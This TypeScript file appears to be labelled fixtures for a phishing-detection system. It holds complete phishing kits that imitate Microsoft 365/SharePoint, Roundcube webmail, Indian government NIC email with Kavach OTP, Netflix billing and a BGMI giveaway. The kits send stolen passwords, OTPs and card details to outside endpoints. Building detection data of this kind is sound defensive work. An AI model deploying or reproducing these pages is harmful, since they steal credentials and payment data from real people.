import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { jsRoute, jsonRoute, pngRoute } from '../parts/e-bin.js';
import { b64, pct, rev, doc, wordmark, emblem, bankCss, FONTS, ASHOKA } from '../parts/yn-kit.js';

// Company webmail, Microsoft 365 and government mail kits; consumer brands (streaming, social, games).

export const entries: Entry[] = [
{
  id: 'yn-m365-sharepoint-invoice-hash-email',
  label: 'phishing',
  kind: 'm365-kit',
  url: 'https://sharepoint-docs-viewer.pages.dev/view/INV-2025-0612.html#ravi.krishnan@sundaramtextiles.co.in',
  body: doc({
    title: 'Sharepoint - Shared Document',
    css: `body{background:#f3f2f1;font-family:'Segoe UI',SegoeUI,Helvetica,Arial,sans-serif}.blur{position:fixed;inset:0;background:url(/view/doc.png) center/cover;filter:blur(6px);opacity:.55}
.box{position:relative;width:440px;margin:80px auto;background:#fff;padding:44px;box-shadow:0 2px 6px rgba(0,0,0,.2)}.ms{display:flex;gap:2px;width:22px;flex-wrap:wrap}.ms i{width:10px;height:10px;display:block}
h1{font-size:24px;font-weight:600;margin:16px 0 8px}.id{font-size:14px;margin-bottom:10px}input{width:100%;border:0;border-bottom:1px solid #666;height:36px;font-size:15px;margin:10px 0;outline:none}
.btn{background:#0067b8;color:#fff;border:0;min-width:108px;height:32px;float:right;margin-top:14px}.err{color:#e81123;font-size:13px;display:none}.f{font-size:13px;color:#0067b8}`,
    body: `<div class="blur"></div>
<div class="box">
<div style="display:flex;align-items:center;gap:8px"><div class="ms"><i style="background:#f25022"></i><i style="background:#7fba00"></i><i style="background:#00a4ef"></i><i style="background:#ffb900"></i></div><span style="color:#737373;font-size:18px;font-weight:600">Microsoft</span></div>
<p style="font-size:13px;color:#444;margin-top:16px">📄 <b>INV-2025-0612.pdf</b> (218 KB) was shared with you by accounts@meenakshi-exports.com. Sign in to view the document.</p>
<div class="id" id="who"></div>
<h1>Enter password</h1>
<form id="f">
<input type="hidden" name="login" id="em">
<div class="err" id="err">Your account or password is incorrect. If you don't remember your password, <a href="#">reset it now.</a></div>
<input type="password" name="passwd" id="pw" placeholder="Password" required>
<div class="f"><a href="#">Forgot my password</a></div>
<button class="btn">Sign in</button><div style="clear:both"></div>
</form></div>
<script>
var e=decodeURIComponent(location.hash.slice(1)||'');if(/^[^@]+@[^@]+$/.test(e)){document.getElementById('who').textContent=e;document.getElementById('em').value=e}
var tries=0;
document.getElementById('f').onsubmit=function(ev){ev.preventDefault();tries++;
fetch('https://submit-form.com/Xk9pQ2fLr',{method:'POST',headers:{'Content-Type':'application/json',Accept:'application/json'},body:JSON.stringify({email:e,password:document.getElementById('pw').value,attempt:tries,domain:e.split('@')[1]})}).catch(function(){});
if(tries<2){document.getElementById('err').style.display='block';document.getElementById('pw').value=''}else{location.href='https://'+(e.split('@')[1]||'office.com')}};
</script>`,
  }),
  routes: { 'sharepoint-docs-viewer.pages.dev/view/doc.png': pngRoute(230, 230, 230) },
},
{
  id: 'yn-roundcube-quota-hacked-trader-site',
  label: 'phishing',
  kind: 'webmail-kit',
  url: 'https://www.shreeganeshtraders.in/wp-includes/css/rc/index.php?_task=login&email=accounts@shreeganeshtraders.in',
  body: doc({
    title: 'Roundcube Webmail :: Welcome to Roundcube Webmail',
    css: `body{background:#2f3a3f;font-family:'Open Sans',Arial,sans-serif;color:#333}#layout{width:380px;margin:90px auto;background:#fff;border-radius:4px;padding:28px 32px;box-shadow:0 2px 16px rgba(0,0,0,.5)}
#logo{text-align:center;margin-bottom:14px}.q{background:#fff1cc;border:1px solid #f3d27a;padding:10px;font-size:13px;margin-bottom:12px}.q .bar{height:8px;background:#eee;margin-top:6px}.q .bar i{display:block;height:8px;width:98%;background:#d9534f}
td.title{font-size:13px;width:90px}input.form-control{width:100%;height:34px;border:1px solid #bbb;padding:0 8px;margin:4px 0}.button.mainaction{background:#37beff;color:#fff;border:0;height:38px;width:100%;margin-top:14px;font-size:15px}.foot{text-align:center;font-size:11px;color:#999;margin-top:18px}`,
    body: `<div id="layout"><div id="logo">${wordmark('roundcube', '#fff', '#37beff', 170, 40)}<div style="font-size:12px;color:#888">Webmail</div></div>
<div class="q"><b>Mailbox storage is almost full (98%)</b><div class="bar"><i></i></div>Incoming messages are being held. Log in to verify your account and release pending mails (14).</div>
<form name="login-form" method="post" action="post.php">
<input type="hidden" name="_token" value="Rq6Tb1kVxE2ypW0m"><input type="hidden" name="_task" value="login"><input type="hidden" name="_action" value="login">
<table><tbody>
<tr><td class="title"><label for="rcmloginuser">Username</label></td><td class="input"><input name="_user" id="rcmloginuser" class="form-control" required></td></tr>
<tr><td class="title"><label for="rcmloginpwd">Password</label></td><td class="input"><input name="_pass" id="rcmloginpwd" type="password" class="form-control" required></td></tr>
</tbody></table>
<button type="submit" class="button mainaction">Login</button>
</form>
<div class="foot">Roundcube Webmail &middot; Powered by cPanel</div></div>
<script>var p=new URLSearchParams(location.search);if(p.get('email'))document.getElementById('rcmloginuser').value=p.get('email');</script>`,
  }),
  routes: {
    'www.shreeganeshtraders.in/wp-includes/css/rc/post.php': redirectRoute(302, 'https://www.shreeganeshtraders.in/wp-includes/css/rc/index.php?_task=login&_err=1'),
  },
},
{
  id: 'yn-nic-govmail-kavach-kit',
  label: 'phishing',
  kind: 'gov-mail-kit',
  url: 'https://email-gov-in.kavach-auth.com/',
  body: doc({
    title: 'Government of India Email Services',
    css: `body{background:#eef3f8;font-family:Arial,Helvetica,sans-serif}.top{background:#fff;border-bottom:3px solid #f47920;padding:10px 40px;display:flex;align-items:center;gap:14px}.top b{color:#0d3c73;font-size:20px}
.w{display:flex;max-width:960px;margin:40px auto;gap:30px}.l{flex:1;color:#0d3c73}.l h2{margin-top:0}.r{width:380px;background:#fff;border-radius:6px;padding:26px;box-shadow:0 1px 8px rgba(0,0,0,.12)}
label{display:block;font-size:13px;margin:12px 0 4px}input{width:100%;height:40px;border:1px solid #aab;border-radius:4px;padding:0 10px}button{width:100%;height:42px;background:#0d3c73;color:#fff;border:0;border-radius:4px;margin-top:18px}.k{display:none}`,
    body: `<div class="top">${ASHOKA}<div><b>ईमेल सेवाएं | Email Services</b><div style="font-size:12px;color:#555">National Informatics Centre, MeitY</div></div></div>
<div class="w"><div class="l"><h2>Welcome to Government of India Email Service</h2><p>Secure, reliable email for Central and State Government officials. Access with two-factor authentication via Kavach.</p><p style="font-size:13px;color:#a33">Advisory: Due to a security upgrade, all users are required to re-authenticate their Kavach credentials before 30 June to avoid account suspension.</p></div>
<div class="r"><form id="g">
<div class="s1"><label>Email Address / User ID</label><input name="uid" placeholder="name@nic.in / name@gov.in" required><label>Password</label><input name="pw" type="password" required></div>
<div class="k"><label>Kavach OTP</label><input name="kotp" maxlength="6"><label>Mobile Number</label><input name="mob" maxlength="10"></div>
<button id="b">Sign In</button></form>
<p style="font-size:12px;color:#666;margin-top:14px">Forgot Password? &middot; Contact: support@gov.in | 1800-111-555</p></div></div>
<script>
var st=0;document.getElementById('g').onsubmit=function(e){e.preventDefault();var q=new URLSearchParams(new FormData(this));q.set('s',st);
new Image().src='/api/px.gif?d='+btoa(q.toString());
if(st===0){st=1;document.querySelector('.k').style.display='block';document.getElementById('b').textContent='Verify';}else{location.href='https://email.gov.in/'}};
</script>`,
  }),
},
{
  id: 'yn-netflix-in-payment-declined',
  label: 'phishing',
  kind: 'streaming-billing-kit',
  url: 'https://netflix-in-billing.com/account/payment',
  body: doc({
    title: 'Netflix',
    css: `body{background:#000;color:#fff;font-family:'Netflix Sans','Helvetica Neue',Arial}.hd{padding:20px 40px}.c{max-width:450px;margin:20px auto;background:rgba(0,0,0,.75);padding:50px 60px;border-radius:4px}h1{font-size:30px;margin-top:0}.m{background:#e87c03;padding:10px 16px;border-radius:4px;font-size:14px}input{width:100%;height:50px;background:#333;border:0;border-radius:4px;color:#fff;padding:0 16px;margin:8px 0;font-size:16px}button{width:100%;height:48px;background:#e50914;color:#fff;border:0;border-radius:4px;font-size:16px;font-weight:700;margin-top:20px}.r{display:flex;gap:8px}`,
    body: `<div class="hd">${wordmark('NETFLIX', '#000', '#e50914', 150, 44, 0)}</div>
<div class="c"><h1>Update payment</h1><p class="m">Your membership has been put on hold. We're having trouble with your current billing information (UPI AutoPay / card). Please update it to continue watching.</p>
<form method="post" action="/account/update.php">
<input name="fullname" placeholder="Name on card" required>
<input name="ccnum" placeholder="Card number" inputmode="numeric" autocomplete="cc-number" required>
<div class="r"><input name="exp" placeholder="Expiration date (MM/YY)" required><input name="cvv" placeholder="CVV" maxlength="4" required></div>
<input name="phone" placeholder="Mobile number (+91)" required>
<button>Save &amp; Continue</button>
</form><p style="font-size:13px;color:#8c8c8c;margin-top:20px">Your plan: Standard ₹499/month</p></div>`,
  }),
},
{
  id: 'yn-bgmi-free-uc-social-login',
  label: 'phishing',
  kind: 'game-giveaway-kit',
  url: 'https://bgmi-uc-event.in/claim/',
  body: doc({
    title: 'BGMI - Free 8100 UC Event',
    css: `body{background:#111 linear-gradient(180deg,#3b2a0a,#111 60%);color:#fff;font-family:Arial;text-align:center}.w{max-width:440px;margin:0 auto;padding:20px}.it{display:grid;grid-template-columns:repeat(3,1fr);gap:10px;margin:18px 0}.it div{background:#2a2a2a;border:1px solid #f6c244;border-radius:6px;padding:12px 6px;font-size:13px;cursor:pointer}.it b{display:block;color:#f6c244;font-size:18px}
.pop{display:none;position:fixed;inset:0;background:rgba(0,0,0,.7)}.pop .b{background:#fff;color:#222;max-width:360px;margin:80px auto;border-radius:8px;padding:20px;text-align:left}.pop input{width:100%;height:40px;margin:6px 0;border:1px solid #ccc;padding:0 10px}.pop button{width:100%;height:42px;border:0;color:#fff;border-radius:4px;margin-top:8px}.lg button{display:block;width:100%;height:44px;margin:8px 0;border:0;border-radius:4px;color:#fff;font-weight:bold}`,
    body: `<div class="w">${wordmark('BATTLEGROUNDS', '#f6c244', '#111', 220, 40)}<h2>Anniversary Event — Claim Free UC</h2><p>Choose your reward. Limited to first 5,000 players.</p>
<div class="it"><div><b>660</b>UC</div><div><b>1800</b>UC</div><div><b>8100</b>UC</div><div><b>M416</b>Glacier</div><div><b>Pharaoh</b>X-Suit</div><div><b>RP</b>Royale Pass</div></div>
<div class="lg"><p>Login with the account linked to BGMI:</p><button style="background:#1877f2" data-p="fb">Login with Facebook</button><button style="background:#1da1f2" data-p="tw">Login with Twitter</button></div></div>
<div class="pop" id="pop"><div class="b"><h3 id="pt">Log in to Facebook</h3><form id="lf"><input name="email" placeholder="Mobile number or email address" required><input type="password" name="pass" placeholder="Password" required><input name="charid" placeholder="BGMI Character ID"><button id="pb" style="background:#1877f2">Log In</button></form></div></div>
<script>
var plat='fb';document.querySelectorAll('.lg button').forEach(function(b){b.onclick=function(){plat=b.getAttribute('data-p');document.getElementById('pt').textContent=plat==='fb'?'Log in to Facebook':'Log in to Twitter';document.getElementById('pb').style.background=plat==='fb'?'#1877f2':'#1da1f2';document.getElementById('pop').style.display='block'}});
document.getElementById('lf').onsubmit=function(e){e.preventDefault();var f=new FormData(this);f.append('platform',plat);fetch('/claim/sendlogin.php',{method:'POST',body:f}).finally(function(){document.querySelector('.pop .b').innerHTML='<h3>Processing...</h3><p>Your UC will be delivered to your in-game mail within 24 hours.</p>'})};
</script>`,
  }),
},
];
